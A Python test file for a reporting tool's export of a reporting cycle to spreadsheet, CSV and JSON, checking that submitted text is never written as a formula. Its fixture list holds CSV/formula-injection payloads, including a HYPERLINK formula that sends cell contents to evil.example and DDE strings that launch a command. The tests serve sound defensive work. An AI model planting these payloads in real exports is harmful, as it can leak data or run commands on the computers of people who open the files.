"""Export of a cycle as .xlsx, .csv and .json; ministry text never becomes a formula."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from mou.errors import Refused
from mou.forms import load_form
from mou.reporting.consolidation.returns import default_forms_dir
from mou.reporting.export import export_cycle, is_formula_like, neutralise
from mou.store import models as m
from tests import builders as b

DANGEROUS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _hostile_cycle(session: Session) -> m.ReportingCycle:
    cycle = b.make_cycle(session, "bukhara-deer", "2023-2024", deadline=dt.date(2025, 3, 31))
    for code in ("KZ", "UZ"):
        b.make_request(session, cycle, code, created_at=b.utc(2025, 1, 10))
    proposals = [{"proposal": text, "term": "short_term"} for text in DANGEROUS]
    b.add_submission(
        session,
        cycle,
        "UZ",
        b.bukhara_answers("UZ", comments=DANGEROUS[0], extra={"action_plan_proposals": proposals}),
        received_at=b.utc(2025, 3, 1),
    )
    b.add_submission(session, cycle, "KZ", b.bukhara_answers("KZ"), received_at=b.utc(2025, 3, 2))
    return cycle


def _stored_answers(session: Session, cycle_id: int) -> int:
    return (
        session.scalar(
            select(func.count(m.Answer.id))
            .join(m.Submission)
            .where(
                m.Submission.cycle_id == cycle_id,
                m.Submission.status == "accepted",
                m.Submission.superseded_by_id.is_(None),
            )
        )
        or 0
    )


def test_formula_detection() -> None:
    assert all(is_formula_like(text) for text in DANGEROUS)
    assert not is_formula_like("Lower Amudarya") and not is_formula_like("1 475")
    assert neutralise("=1+1") == "'=1+1" and neutralise("plain") == "plain"


def test_xlsx_never_writes_a_formula(session: Session, tmp_path: Path) -> None:
    cycle = _hostile_cycle(session)
    path = export_cycle(session, cycle.id, tmp_path / "export.xlsx")
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["answers", "status", "cycle", "audit"]
    answers = workbook["answers"]
    header = [c.value for c in answers[1]]
    assert header[:10] == [
        "state",
        "state_name",
        "version",
        "field",
        "field_label",
        "row",
        "row_label",
        "column",
        "value",
        "value_label",
    ]
    assert answers.max_row - 1 == _stored_answers(session, cycle.id)
    # XML reading turns a carriage return into a line feed; the text is otherwise exact.
    expected = {text.replace("\r", "\n") for text in DANGEROUS}
    found = {}
    for row in answers.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and cell.value in expected:
                found[cell.value] = cell
    assert set(found) == expected
    for text, cell in found.items():
        assert cell.data_type == "s" and cell.value == text  # kept exactly, as text
        assert cell.quotePrefix
    # Numbers stay numbers.
    counts = [row[8].value for row in answers.iter_rows(min_row=2) if row[7].value == "count"]
    assert 1475 in counts and all(isinstance(v, int) for v in counts)
    status = workbook["status"]
    rows = {r[0].value: [c.value for c in r] for r in status.iter_rows(min_row=2)}
    assert set(rows) == {"AF", "KZ", "TJ", "TM", "UZ"}
    assert rows["UZ"][-1] == "accepted" and rows["AF"][-1] == "not_received"


def test_xlsx_puts_an_english_label_beside_each_code(session: Session, tmp_path: Path) -> None:
    scenario = b.build_cami(session, hostile=False)
    path = export_cycle(session, scenario.cycle.id, tmp_path / "export.xlsx")
    answers = load_workbook(path)["answers"]
    header = [c.value for c in answers[1]]
    rows = [dict(zip(header, (c.value for c in r), strict=True)) for r in answers.iter_rows(2)]
    form = load_form(default_forms_dir(), "cami")
    for row in rows:
        assert row["field_label"], row  # every stored answer belongs to a field of the form
        top = form.field(row["field"])
        assert row["field_label"].startswith(top.label("en"))
    # A choice value and a pre-printed activity row get their words beside the code.
    statuses = [r for r in rows if r["row"] and r["row_label"] and r["value_label"]]
    assert statuses, "no activity status with its labels"
    sample = statuses[0]
    spec = next(c for c in form.field(sample["field"]).columns if c.key == sample["column"])
    assert sample["value_label"] == next(
        c.label("en") for c in form.choices[spec.choices] if c.value == sample["value"]
    )
    assert sample["row_label"] != sample["row"]


def test_csv_prefixes_formula_text(session: Session, tmp_path: Path) -> None:
    cycle = _hostile_cycle(session)
    path = export_cycle(session, cycle.id, tmp_path / "export.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == _stored_answers(session, cycle.id)
    values = {r["value"] for r in rows}
    for text in DANGEROUS:
        assert "'" + text in values and text not in values
    assert "1475" in values


def test_json_keeps_types(session: Session, tmp_path: Path) -> None:
    scenario = b.build_cami(session, hostile=False)
    path = export_cycle(session, scenario.cycle.id, tmp_path / "export.json")
    data = json.loads(path.read_text(encoding="utf-8"))
    assert data["cycle"]["instrument"] == "cami" and data["cycle"]["period"] == "2024-2026"
    assert len(data["status"]) == 14
    assert len(data["answers"]) == _stored_answers(session, scenario.cycle.id)
    species = [
        a["value"]
        for a in data["answers"]
        if (a["field"], a["column"]) == ("activities", "species")
    ]
    assert species and all(isinstance(v, list) for v in species)
    # Same data, same bytes.
    again = export_cycle(session, scenario.cycle.id, tmp_path / "again.json")
    assert again.read_bytes() == path.read_bytes()


def test_unknown_suffix_is_refused(session: Session, tmp_path: Path) -> None:
    cycle = _hostile_cycle(session)
    with pytest.raises(Refused, match=r"\.xlsx, \.csv or \.json"):
        export_cycle(session, cycle.id, tmp_path / "export.ods")
